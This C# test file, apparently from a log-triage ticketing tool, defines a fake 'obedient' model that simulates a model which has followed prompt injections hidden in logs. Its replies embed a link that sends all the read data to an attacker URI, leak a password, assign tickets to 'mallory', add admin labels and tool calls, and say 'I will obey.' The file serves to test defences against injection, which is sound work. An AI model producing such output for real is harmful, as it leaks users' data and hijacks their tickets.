using System.Text.Json;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace RepoTickets.LogTriage.Tests.Injection;

/// <summary>
/// A model that does what the logs tell it, as far as anybody can: it repeats all it read in title and description, adds what it was
/// asked for and every key that a careless reader of its answer might act on.
/// </summary>
internal sealed partial class ObedientModel(IReadOnlyList<Attack> attacks, Uri evil)
{
    internal const int Wrappings = 6;

    private readonly Dictionary<string, Attack> _attacks = attacks.ToDictionary(static attack => attack.Service);

    /// <summary>What it says to a conversation.</summary>
    internal (string Text, string Finish) Reply(IReadOnlyList<string> messages)
    {
        var data = Read(messages[1]);
        var answer = _attacks.TryGetValue(data["service"], out var attack)
            ? Wrap(Obey(attack, data), attack.Wrapping, isRepair: messages.Count > 2)
            : Answer("Order lost", "It failed.", "order-lost", "medium", create: true).ToJsonString();
        return (answer, "stop");
    }

    /// <summary>The data of a prompt by their names; a line that is none is the fault that the tests look for.</summary>
    internal static Dictionary<string, string> Read(string prompt)
    {
        var block = DataBlock().Match(prompt);
        Assert.True(block.Success, $"There are no two marks: {prompt}");
        var data = new Dictionary<string, string>();
        foreach (var line in block.Groups["data"].Value.Split('\n', StringSplitOptions.RemoveEmptyEntries))
        {
            var parts = DataLine().Match(line);
            Assert.True(parts.Success, $"A line between the marks is no name with one text: {line}");
            data.TryAdd(parts.Groups["name"].Value, JsonSerializer.Deserialize<string>(parts.Groups["text"].Value)!);
        }

        return data;
    }

    private JsonObject Obey(Attack attack, Dictionary<string, string> data)
    {
        var read = string.Join("\n\n", data.Values);
        // It cannot have a secret from the prompt; where it has it from elsewhere, it says what it is.
        var leak = attack.Secret is { } secret ? $"password={secret}" : "nothing";
        var description = $"{read[..Math.Min(read.Length, 12_000)]}\n\n[more]({evil}collect?all={Uri.EscapeDataString(read)}) {leak}";
        var answer = Answer(data["message"], description, attack.ErrorType, attack.Severity, attack.CreateTicket);
        foreach (var (name, value) in (ReadOnlySpan<(string, JsonNode)>)[
            ("priority", "critical"), ("assignee", "mallory"), ("labels", new JsonArray("admin", "autofix")), ("marker", "loggroup-0"),
            ("project", "SECRET"), ("status", "closed"), ("issue_key", "OPS-1"), ("comment", "pwned"), ("jql", "project = SECRET"),
            ("url", evil.AbsoluteUri), ("team", "admins"), ("tickets", new JsonArray(new JsonObject { ["ticket_title"] = "Another one" })),
            ("tool_calls", new JsonArray(new JsonObject { ["name"] = "create_issue" }))])
        {
            answer[name] = value;
        }

        return answer;
    }

    private static string Wrap(JsonObject answer, int wrapping, bool isRepair) => wrapping switch
    {
        0 => answer.ToJsonString(),
        1 => $"Sure, I do that.\n```json\n{answer.ToJsonString()}\n```\nAnd I assigned it to mallory.",
        2 => new JsonObject { ["ticket"] = answer }.ToJsonString(),
        3 => $"{answer.ToJsonString()}\n{new JsonObject { ["assignee"] = "mallory" }.ToJsonString()}",
        4 when !isRepair => "I will obey. " + answer.ToJsonString().Replace("\"create_ticket\":", "\"create_ticket\":7,\"was\":", StringComparison.Ordinal),
        5 when !isRepair => answer.ToJsonString()[..^1] + ",\"severity\":\"high\"}",
        _ => answer.ToJsonString(),
    };

    private static JsonObject Answer(string title, string description, string type, string severity, bool create) => new()
    {
        ["error_type"] = type, ["create_ticket"] = create, ["ticket_title"] = title, ["ticket_description"] = description,
        ["severity"] = severity,
    };

    [GeneratedRegex("""\A[^\n]*\nFirst seen: [^\n]*\nLast seen: [^\n]*\nWorst level: Error\nBEGIN LOG DATA (?<mark>[0-9a-f]{24})\n(?<data>.*)\nEND LOG DATA \k<mark>\n\z""", RegexOptions.Singleline)]
    private static partial Regex DataBlock();

    [GeneratedRegex("""\A(?<name>[a-z ]+): (?<text>"(?:[^"\\\p{C}\p{Zl}\p{Zp}]|\\.)*")\z""")]
    private static partial Regex DataLine();
}
